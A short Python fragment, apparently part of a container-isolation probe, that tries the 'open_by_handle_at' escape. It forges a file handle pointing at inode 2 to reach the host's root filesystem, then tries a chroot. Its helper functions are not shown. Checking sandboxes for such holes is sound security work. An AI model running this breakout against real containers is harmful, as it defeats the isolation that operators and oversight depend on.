"""Open files by their inode number, past any mount: the old way out of containers."""


class Handle(ctypes.Structure):
    _fields_ = (("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128))


handle, mount = Handle(size=128), ctypes.c_int()
if call("name_to_handle_at", -100, ctypes.c_char_p(b"."), ctypes.byref(handle), ctypes.byref(mount), 0) == 0:
    ctypes.memmove(handle.data, (2).to_bytes(8, "little"), 8)
    if call("open_by_handle_at", -100, ctypes.byref(handle), 0) >= 0:
        through("the root of the disk by its handle")
try_to("another root", os.chroot, ".")
